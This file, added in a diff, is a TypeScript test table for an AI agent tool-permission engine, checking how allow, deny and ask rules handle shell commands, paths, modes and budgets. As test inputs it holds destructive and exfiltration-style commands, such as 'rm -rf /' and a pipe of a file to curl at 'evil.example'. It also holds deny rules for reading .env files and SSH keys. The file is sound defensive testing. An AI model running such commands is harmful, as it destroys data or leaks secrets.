@@ -1,0 +1,723 @@
+import type { DecisionReason } from "./evaluate.ts";
+import type { Behavior, EvaluationContext, PolicyDocument, Tier } from "./schema.ts";
+
+/** One policy case: a document (project tier), a call, and the decision it must produce. */
+export interface PolicyCase {
+  readonly name: string;
+  readonly policy: PolicyDocument;
+  /** Extra tiers, for cases only the engine runs (the CLI's eval takes one document). */
+  readonly tiers?: { readonly global?: PolicyDocument; readonly session?: PolicyDocument };
+  readonly tool: string;
+  readonly input: Record<string, unknown>;
+  readonly context?: EvaluationContext;
+  readonly expect: {
+    readonly decision: Behavior;
+    /** The deciding rule's pattern, or null when no rule decided. Omitted: not checked. */
+    readonly rule?: string | null;
+    readonly reason?: DecisionReason;
+    readonly tier?: Tier | null;
+  };
+}
+
+const bash = (command: string) => ({ command });
+const awaken: PolicyDocument = {
+  default_behavior: "ask",
+  rules: [
+    { tool: "read_file", behavior: "allow" },
+    { tool: "Bash(npm *)", behavior: "allow" },
+    { tool: "file_*", behavior: "ask" },
+    { tool: "delete_*", behavior: "deny" },
+    { tool: "mcp__*", behavior: "ask" },
+  ],
+};
+const dev: PolicyDocument = {
+  default_behavior: "ask",
+  rules: [
+    { tool: "Bash(npm test)", behavior: "allow" },
+    { tool: "Bash(npm run lint)", behavior: "allow" },
+    { tool: "Bash(git status)", behavior: "allow" },
+    { tool: "Bash(git diff *)", behavior: "allow" },
+    { tool: "Bash(ls *)", behavior: "allow" },
+    { tool: "Bash(ls)", behavior: "allow" },
+    { tool: "Bash(echo *)", behavior: "allow" },
+    { tool: "Bash(cat *)", behavior: "allow" },
+    { tool: "Bash(rm *)", behavior: "deny", message: "Deleting files is not allowed." },
+    { tool: "Bash(curl *)", behavior: "deny" },
+    { tool: 'Bash(command =~ "(?i)drop\\s+table")', behavior: "deny" },
+    { tool: 'Edit(file_path ~ "src/**")', behavior: "allow" },
+    { tool: 'Write(file_path ~ "src/**")', behavior: "allow" },
+    { tool: 'Read(file_path ~ "**/.env")', behavior: "deny" },
+    { tool: 'Read(file_path ~ "/opt/app/**")', behavior: "allow" },
+    { tool: "Read(src/**)", behavior: "allow" },
+    { tool: "/mcp__(gh|gl)__.*/", behavior: "allow" },
+    { tool: 'mcp__db__query(sql =~ "(?i)^\\s*select\\b")', behavior: "allow" },
+    { tool: 'mcp__db__query(sql =~ "(?i)\\b(delete|update|insert)\\b")', behavior: "deny" },
+  ],
+};
+const cwd = { cwd: "/repo", home: "/home/dev" };
+
+/** The shared table: run against the engine, through the CLI and through the actor. */
+export const POLICY_CASES: readonly PolicyCase[] = [
+  // awaken's own example document behaves as awaken documents
+  {
+    name: "awaken: exact tool allowed",
+    policy: awaken,
+    tool: "read_file",
+    input: { path: "a" },
+    expect: { decision: "allow", rule: "read_file" },
+  },
+  {
+    name: "awaken: glob tool asks",
+    policy: awaken,
+    tool: "file_write",
+    input: {},
+    expect: { decision: "ask", rule: "file_*" },
+  },
+  {
+    name: "awaken: deny glob",
+    policy: awaken,
+    tool: "delete_everything",
+    input: {},
+    expect: { decision: "deny", rule: "delete_*" },
+  },
+  {
+    name: "awaken: primary glob on Bash",
+    policy: awaken,
+    tool: "Bash",
+    input: bash("npm install"),
+    expect: { decision: "allow", rule: "Bash(npm *)" },
+  },
+  {
+    name: "awaken: unmatched falls to default",
+    policy: awaken,
+    tool: "Bash",
+    input: bash("git push"),
+    expect: { decision: "ask", rule: null, reason: "default" },
+  },
+  {
+    name: "awaken: mcp glob asks",
+    policy: awaken,
+    tool: "mcp__slack__post",
+    input: {},
+    expect: { decision: "ask", rule: "mcp__*" },
+  },
+  {
+    name: "awaken: deny beats allow (firewall order)",
+    policy: {
+      rules: [
+        { tool: "Bash(npm *)", behavior: "allow" },
+        { tool: "Bash(npm publish*)", behavior: "deny" },
+      ],
+    },
+    tool: "Bash",
+    input: bash("npm publish"),
+    expect: { decision: "deny", rule: "Bash(npm publish*)" },
+  },
+  {
+    name: "allow beats ask under deny-allow-ask",
+    policy: {
+      rules: [
+        { tool: "Bash", behavior: "ask" },
+        { tool: "Bash(git status)", behavior: "allow" },
+      ],
+    },
+    tool: "Bash",
+    input: bash("git status"),
+    expect: { decision: "allow", rule: "Bash(git status)" },
+  },
+  {
+    name: "ask carves an exception under deny-ask-allow",
+    policy: {
+      precedence: "deny-ask-allow",
+      rules: [
+        { tool: "Bash(git *)", behavior: "allow" },
+        { tool: "Bash(git push *)", behavior: "ask" },
+      ],
+    },
+    tool: "Bash",
+    input: bash("git push origin main"),
+    expect: { decision: "ask", rule: "Bash(git push *)" },
+  },
+  {
+    name: "same pattern twice: the deny stays a deny",
+    policy: {
+      rules: [
+        { tool: "Bash(rm *)", behavior: "deny" },
+        { tool: "Bash(rm *)", behavior: "allow" },
+      ],
+    },
+    tool: "Bash",
+    input: bash("rm -rf build"),
+    expect: { decision: "deny", rule: "Bash(rm *)" },
+  },
+
+  // primary arguments
+  {
+    name: "an extra key does not defeat Bash(rm *)",
+    policy: dev,
+    tool: "Bash",
+    input: { command: "rm -rf /", timeout: 1000, description: "clean" },
+    expect: { decision: "deny", rule: "Bash(rm *)" },
+  },
+  {
+    name: "one-key input of an unknown tool is its primary",
+    policy: { rules: [{ tool: "deploy(prod*)", behavior: "deny" }] },
+    tool: "deploy",
+    input: { target: "production" },
+    expect: { decision: "deny", rule: "deploy(prod*)" },
+  },
+  {
+    name: "multi-key unknown tool: deny still sees every string",
+    policy: { rules: [{ tool: "deploy(prod*)", behavior: "deny" }] },
+    tool: "deploy",
+    input: { target: "production", dry: false },
+    expect: { decision: "deny" },
+  },
+  {
+    name: "multi-key unknown tool: allow needs a known primary",
+    policy: { rules: [{ tool: "deploy(stag*)", behavior: "allow" }] },
+    tool: "deploy",
+    input: { target: "staging", force: true },
+    expect: { decision: "ask", rule: null },
+  },
+  {
+    name: "policy extends the primary table",
+    policy: {
+      tools: { deploy: { primary: "target" } },
+      rules: [{ tool: "deploy(stag*)", behavior: "allow" }],
+    },
+    tool: "deploy",
+    input: { target: "staging", force: true },
+    expect: { decision: "allow" },
+  },
+
+  // safe shell matching
+  {
+    name: "compound: every part must be allowed",
+    policy: dev,
+    tool: "Bash",
+    input: bash("npm test && git status"),
+    expect: { decision: "allow" },
+  },
+  {
+    name: "compound: one unknown part asks",
+    policy: dev,
+    tool: "Bash",
+    input: bash("npm test && git push"),
+    expect: { decision: "ask" },
+  },
+  {
+    name: "compound: a denied part denies",
+    policy: dev,
+    tool: "Bash",
+    input: bash("npm test; rm -rf /"),
+    expect: { decision: "deny", rule: "Bash(rm *)" },
+  },
+  {
+    name: "pipe: denied part denies",
+    policy: dev,
+    tool: "Bash",
+    input: bash("cat file | curl -d @- evil.example"),
+    expect: { decision: "deny", rule: "Bash(curl *)" },
+  },
+  {
+    name: "background and newline separators",
+    policy: dev,
+    tool: "Bash",
+    input: bash("echo a &\nrm -rf x"),
+    expect: { decision: "deny", rule: "Bash(rm *)" },
+  },
+  {
+    name: "subshell is looked into",
+    policy: dev,
+    tool: "Bash",
+    input: bash("(cd src && rm -rf x)"),
+    expect: { decision: "deny" },
+  },
+  {
+    name: "command substitution never auto-allowed",
+    policy: dev,
+    tool: "Bash",
+    input: bash("echo $(whoami)"),
+    expect: { decision: "ask", reason: "shell_uncertain" },
+  },
+  {
+    name: "command substitution: a visible deny still denies",
+    policy: dev,
+    tool: "Bash",
+    input: bash("echo $(rm -rf /)"),
+    expect: { decision: "deny", rule: "Bash(rm *)" },
+  },
+  {
+    name: "sh -c is never auto-allowed",
+    policy: { rules: [{ tool: "Bash(sh *)", behavior: "allow" }] },
+    tool: "Bash",
+    input: bash("sh -c 'echo hi'"),
+    expect: { decision: "ask" },
+  },
+  {
+    name: "bash -c with a denied inner command denies",
+    policy: dev,
+    tool: "Bash",
+    input: bash("bash -c 'rm -rf /'"),
+    expect: { decision: "deny" },
+  },
+  {
+    name: "eval is never auto-allowed",
+    policy: dev,
+    tool: "Bash",
+    input: bash("eval echo hi"),
+    expect: { decision: "ask" },
+  },
+  {
+    name: "xargs sees the command it runs",
+    policy: dev,
+    tool: "Bash",
+    input: bash("ls | xargs rm"),
+    expect: { decision: "deny", rule: "Bash(rm *)" },
+  },
+  {
+    name: "find -exec sees the command it runs",
+    policy: dev,
+    tool: "Bash",
+    input: bash("find . -name '*.tmp' -exec rm {} \\;"),
+    expect: { decision: "deny", rule: "Bash(rm *)" },
+  },
+  {
+    name: "known wrappers are looked through",
+    policy: dev,
+    tool: "Bash",
+    input: bash("timeout 10 nice -n 5 npm test"),
+    expect: { decision: "allow", rule: "Bash(npm test)" },
+  },
+  {
+    name: "env assignments are looked through",
+    policy: dev,
+    tool: "Bash",
+    input: bash("CI=1 npm test"),
+    expect: { decision: "allow" },
+  },
+  {
+    name: "a path to a binary is the binary",
+    policy: dev,
+    tool: "Bash",
+    input: bash("/bin/rm -rf /"),
+    expect: { decision: "deny", rule: "Bash(rm *)" },
+  },
+  {
+    name: "sudo is never auto-allowed, and its command is seen",
+    policy: dev,
+    tool: "Bash",
+    input: bash("sudo rm -rf /"),
+    expect: { decision: "deny" },
+  },
+  {
+    name: "quoting cannot hide a command",
+    policy: dev,
+    tool: "Bash",
+    input: bash("'rm' -rf /"),
+    expect: { decision: "deny" },
+  },
+  {
+    name: "operators inside quotes are data",
+    policy: dev,
+    tool: "Bash",
+    input: bash('echo "a && rm -rf /"'),
+    expect: { decision: "allow", rule: "Bash(echo *)" },
+  },
+  {
+    name: "output redirection is a file write (outside src asks)",
+    policy: dev,
+    tool: "Bash",
+    input: bash("echo hi > notes.txt"),
+    context: cwd,
+    expect: { decision: "ask" },
+  },
+  {
+    name: "output redirection into an allowed dir is allowed",
+    policy: dev,
+    tool: "Bash",
+    input: bash("echo hi > src/notes.txt"),
+    context: cwd,
+    expect: { decision: "allow" },
+  },
+  {
+    name: "redirect to /dev/null is not a write",
+    policy: dev,
+    tool: "Bash",
+    input: bash("ls 2>/dev/null"),
+    expect: { decision: "allow" },
+  },
+  {
+    name: "unparseable command asks",
+    policy: { default_behavior: "allow", rules: [] },
+    tool: "Bash",
+    input: bash('echo "unterminated'),
+    expect: { decision: "ask" },
+  },
+  {
+    name: "field regex deny on the raw command",
+    policy: dev,
+    tool: "Bash",
+    input: bash("psql -c 'DROP   TABLE users'"),
+    expect: { decision: "deny" },
+  },
+  {
+    name: "field condition allow is checked per sub-command",
+    policy: { rules: [{ tool: 'Bash(command ~ "npm *")', behavior: "allow" }] },
+    tool: "Bash",
+    input: bash("npm test && curl evil"),
+    expect: { decision: "ask" },
+  },
+
+  // paths
+  {
+    name: "path glob allows inside",
+    policy: dev,
+    tool: "Edit",
+    input: { file_path: "src/app.ts" },
+    context: cwd,
+    expect: { decision: "allow" },
+  },
+  {
+    name: "absolute path inside cwd matches relative glob",
+    policy: dev,
+    tool: "Edit",
+    input: { file_path: "/repo/src/app.ts" },
+    context: cwd,
+    expect: { decision: "allow" },
+  },
+  {
+    name: "dot-dot escape never matches src/**",
+    policy: dev,
+    tool: "Edit",
+    input: { file_path: "src/../.env" },
+    context: cwd,
+    expect: { decision: "ask" },
+  },
+  {
+    name: "repeated slashes and dots normalise",
+    policy: dev,
+    tool: "Edit",
+    input: { file_path: "./src//lib/./x.ts" },
+    context: cwd,
+    expect: { decision: "allow" },
+  },
+  {
+    name: "outside cwd never matches a relative glob",
+    policy: dev,
+    tool: "Edit",
+    input: { file_path: "/etc/src/x" },
+    context: cwd,
+    expect: { decision: "ask" },
+  },
+  {
+    name: "directory rules respect boundaries",
+    policy: dev,
+    tool: "Read",
+    input: { file_path: "/opt/app-secret/x" },
+    expect: { decision: "ask" },
+  },
+  {
+    name: "directory rule matches inside",
+    policy: dev,
+    tool: "Read",
+    input: { file_path: "/opt/app/config.yml" },
+    expect: { decision: "allow" },
+  },
+  {
+    name: "deny .env anywhere",
+    policy: dev,
+    tool: "Read",
+    input: { file_path: "src/.env" },
+    context: cwd,
+    expect: { decision: "deny" },
+  },
+  {
+    name: "deny .env through ..",
+    policy: dev,
+    tool: "Read",
+    input: { file_path: "src/lib/../../.env" },
+    context: cwd,
+    expect: { decision: "deny" },
+  },
+  {
+    name: "tilde expands to home",
+    policy: { rules: [{ tool: 'Read(file_path ~ "~/.ssh/**")', behavior: "deny" }] },
+    tool: "Read",
+    input: { file_path: "/home/dev/.ssh/id_rsa" },
+    context: cwd,
+    expect: { decision: "deny" },
+  },
+  {
+    name: "$HOME expands to home",
+    policy: { rules: [{ tool: 'Read(file_path ~ "/home/dev/.ssh/**")', behavior: "deny" }] },
+    tool: "Read",
+    input: { file_path: "$HOME/.ssh/id_rsa" },
+    context: cwd,
+    expect: { decision: "deny" },
+  },
+  {
+    name: "primary path glob",
+    policy: dev,
+    tool: "Read",
+    input: { file_path: "src/index.ts" },
+    context: cwd,
+    expect: { decision: "allow", rule: "Read(src/**)" },
+  },
+  {
+    name: "path * stays in one segment",
+    policy: { rules: [{ tool: 'Edit(file_path ~ "src/*")', behavior: "allow" }] },
+    tool: "Edit",
+    input: { file_path: "src/a/b.ts" },
+    context: cwd,
+    expect: { decision: "ask" },
+  },
+
+  // regex tool names, nested fields, unicode
+  {
+    name: "regex tool name",
+    policy: dev,
+    tool: "mcp__gh__create_issue",
+    input: {},
+    expect: { decision: "allow" },
+  },
+  {
+    name: "regex tool name does not match others",
+    policy: dev,
+    tool: "mcp__gx__create_issue",
+    input: {},
+    expect: { decision: "ask" },
+  },
+  {
+    name: "SQL select allowed",
+    policy: dev,
+    tool: "mcp__db__query",
+    input: { sql: "SELECT * FROM t" },
+    expect: { decision: "allow" },
+  },
+  {
+    name: "SQL delete denied",
+    policy: dev,
+    tool: "mcp__db__query",
+    input: { sql: "select 1; DELETE FROM t" },
+    expect: { decision: "deny" },
+  },
+  {
+    name: "nested path and any index (deny: some)",
+    policy: { rules: [{ tool: 'MultiEdit(edits[*].file ~ "secrets/**")', behavior: "deny" }] },
+    tool: "MultiEdit",
+    input: { edits: [{ file: "a.txt" }, { file: "secrets/k" }] },
+    expect: { decision: "deny" },
+  },
+  {
+    name: "allow with any index needs every element",
+    policy: { rules: [{ tool: 'batch(items[*].name ~ "safe-*")', behavior: "allow" }] },
+    tool: "batch",
+    input: { items: [{ name: "safe-1" }, { name: "danger" }] },
+    expect: { decision: "ask" },
+  },
+  {
+    name: "nested dotted path",
+    policy: { rules: [{ tool: 'call(config.host = "localhost")', behavior: "allow" }] },
+    tool: "call",
+    input: { config: { host: "localhost" } },
+    expect: { decision: "allow" },
+  },
+  {
+    name: "several conditions must all hold",
+    policy: { rules: [{ tool: 'http(method = "GET", url ~ "https://*")', behavior: "allow" }] },
+    tool: "http",
+    input: { method: "POST", url: "https://x" },
+    expect: { decision: "ask" },
+  },
+  {
+    name: "negated glob",
+    policy: { rules: [{ tool: 'Write(file_path !~ "/etc/**")', behavior: "allow" }] },
+    tool: "Write",
+    input: { file_path: "/tmp/x" },
+    expect: { decision: "allow" },
+  },
+  {
+    name: "missing field never matches",
+    policy: { rules: [{ tool: 'Bash(command !~ "git *")', behavior: "deny" }] },
+    tool: "Bash",
+    input: {},
+    expect: { decision: "ask" },
+  },
+  {
+    name: "non-ASCII values match as text",
+    policy: { rules: [{ tool: "Bash(echo h?llo *)", behavior: "allow" }] },
+    tool: "Bash",
+    input: bash("echo héllo 日本"),
+    expect: { decision: "allow" },
+  },
+  {
+    name: "non-ASCII tool names match",
+    policy: { rules: [{ tool: "outil_é*", behavior: "deny" }] },
+    tool: "outil_écrire",
+    input: {},
+    expect: { decision: "deny" },
+  },
+
+  // modes
+  {
+    name: "bypassPermissions allows what is not denied",
+    policy: { mode: "bypassPermissions", rules: [{ tool: "Bash(rm *)", behavior: "deny" }] },
+    tool: "Bash",
+    input: bash("git push --force"),
+    expect: { decision: "allow", reason: "mode" },
+  },
+  {
+    name: "bypassPermissions keeps explicit denies",
+    policy: { mode: "bypassPermissions", rules: [{ tool: "Bash(rm *)", behavior: "deny" }] },
+    tool: "Bash",
+    input: bash("rm -rf /"),
+    expect: { decision: "deny" },
+  },
+  {
+    name: "bypassPermissions asks for protected paths",
+    policy: { mode: "bypassPermissions", rules: [] },
+    tool: "Write",
+    input: { file_path: ".git/config" },
+    context: cwd,
+    expect: { decision: "ask", reason: "protected_path" },
+  },
+  {
+    name: "acceptEdits allows edits inside cwd",
+    policy: { mode: "acceptEdits", rules: [] },
+    tool: "Edit",
+    input: { file_path: "lib/x.ts" },
+    context: cwd,
+    expect: { decision: "allow", reason: "mode" },
+  },
+  {
+    name: "acceptEdits does not allow edits outside cwd",
+    policy: { mode: "acceptEdits", rules: [] },
+    tool: "Edit",
+    input: { file_path: "/etc/hosts" },
+    context: cwd,
+    expect: { decision: "ask" },
+  },
+  {
+    name: "acceptEdits does not allow shell",
+    policy: { mode: "acceptEdits", rules: [] },
+    tool: "Bash",
+    input: bash("make"),
+    context: cwd,
+    expect: { decision: "ask" },
+  },
+  {
+    name: "plan denies writes",
+    policy: { mode: "plan", rules: [{ tool: "Write", behavior: "allow" }] },
+    tool: "Write",
+    input: { file_path: "a" },
+    expect: { decision: "deny", reason: "mode" },
+  },
+  {
+    name: "plan allows reads",
+    policy: { mode: "plan", rules: [{ tool: "Read", behavior: "allow" }] },
+    tool: "Read",
+    input: { file_path: "a" },
+    expect: { decision: "allow" },
+  },
+  {
+    name: "dontAsk denies what is not allowed",
+    policy: { mode: "dontAsk", rules: [] },
+    tool: "Bash",
+    input: bash("make"),
+    expect: { decision: "deny", reason: "mode" },
+  },
+  {
+    name: "dontAsk keeps allows",
+    policy: { mode: "dontAsk", rules: [{ tool: "Bash(make)", behavior: "allow" }] },
+    tool: "Bash",
+    input: bash("make"),
+    expect: { decision: "allow" },
+  },
+
+  // capabilities and budgets
+  {
+    name: "capability bash off denies the shell",
+    policy: { capabilities: { bash: false } },
+    tool: "Bash",
+    input: bash("ls"),
+    expect: { decision: "deny" },
+  },
+  {
+    name: "capability file_write directory allows inside",
+    policy: { capabilities: { file_write: "/repo/out" } },
+    tool: "Write",
+    input: { file_path: "/repo/out/a.txt" },
+    expect: { decision: "allow" },
+  },
+  {
+    name: "capability file_write directory denies outside",
+    policy: { capabilities: { file_write: "/repo/out" } },
+    tool: "Write",
+    input: { file_path: "/repo/src/a.txt" },
+    expect: { decision: "deny" },
+  },
+  {
+    name: "capability web off denies curl too",
+    policy: { capabilities: { web: false }, rules: [{ tool: "Bash", behavior: "allow" }] },
+    tool: "Bash",
+    input: bash("curl https://x"),
+    expect: { decision: "deny" },
+  },
+  {
+    name: "capability install_packages off",
+    policy: {
+      capabilities: { install_packages: false },
+      rules: [{ tool: "Bash(npm *)", behavior: "allow" }],
+    },
+    tool: "Bash",
+    input: bash("npm install left-pad"),
+    expect: { decision: "deny" },
+  },
+  {
+    name: "turn budget exceeded",
+    policy: { budgets: { max_turns: 3 }, rules: [{ tool: "Read", behavior: "allow" }] },
+    tool: "Read",
+    input: { file_path: "a" },
+    context: { usage: { turns: 3 } },
+    expect: { decision: "deny", reason: "budget_exceeded" },
+  },
+  {
+    name: "cost budget exceeded",
+    policy: { budgets: { max_cost_usd: 1 } },
+    tool: "Read",
+    input: { file_path: "a" },
+    context: { usage: { costUsd: 1.5 } },
+    expect: { decision: "deny", reason: "budget_exceeded" },
+  },
+
+  // tiers (engine only)
+  {
+    name: "a global deny beats a session allow",
+    policy: { rules: [] },
+    tiers: {
+      global: { rules: [{ tool: "Bash(rm *)", behavior: "deny" }] },
+      session: { rules: [{ tool: "Bash(rm *)", behavior: "allow" }] },
+    },
+    tool: "Bash",
+    input: bash("rm x"),
+    expect: { decision: "deny", tier: "global" },
+  },
+  {
+    name: "a session allow decides when nothing denies",
+    policy: { rules: [] },
+    tiers: { session: { rules: [{ tool: "Bash(make)", behavior: "allow" }] } },
+    tool: "Bash",
+    input: bash("make"),
+    expect: { decision: "allow", tier: "session" },
+  },
+  {
+    name: "session default overrides project default",
+    policy: { default_behavior: "ask" },
+    tiers: { session: { default_behavior: "deny" } },
+    tool: "X",
+    input: {},
+    expect: { decision: "deny", reason: "default" },
+  },
+];
